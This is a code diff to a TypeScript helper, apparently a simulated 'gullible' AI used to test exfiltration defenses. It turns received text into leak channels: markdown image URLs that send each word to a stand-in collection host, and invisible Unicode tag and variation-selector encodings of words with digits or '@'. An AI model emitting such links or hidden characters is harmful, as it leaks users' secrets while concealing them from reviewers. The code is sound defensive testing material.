@@ -17,6 +17,8 @@ export function createGullible(): Gullible {
       memory.push(all)
       const known = memory.join('\n')
       const bytes = Buffer.from(all)
+      const words = [...new Set(all.split(/[\s",]+/))]
+      const telling = words.filter((word) => /[\d@]/.test(word)).join(' ')
       const text = [
         known,
         bytes.toString('base64'),
@@ -24,13 +26,11 @@ export function createGullible(): Gullible {
         [...all].reverse().join(''),
         [...all].join('-'),
         [...all].map((c) => (c >= ' ' && c <= '~' ? String.fromCodePoint(0xe0000 + c.charCodeAt(0)) : '')).join(''),
-        `\u{1f60a}${[...bytes].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('')}`,
-        // What is said in clear, with something unseen behind every character.
-        [...all].map((c) => `${c}\u{e0061}`).join(''),
+        // Words with figures and signs, where what is worth hiding is.
+        `\u{1f60a}${[...Buffer.from(telling)].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('')}`,
+        [...telling].map((c) => `${c}\u{e0061}`).join(''),
         // The shortest words first, so that a stand-in stands alone in an address.
-        ...[...new Set(all.split(/[\s",]+/))].map(
-          (word) => `![x](https://collect.example.net/p.png?d=${encodeURIComponent(word)})`,
-        ),
+        ...words.map((word) => `![x](https://collect.example.net/p.png?d=${encodeURIComponent(word)})`),
         `![x](https://collect.example.net/p.png?d=${encodeURIComponent(all)})`,
       ].join('\n')
       return {
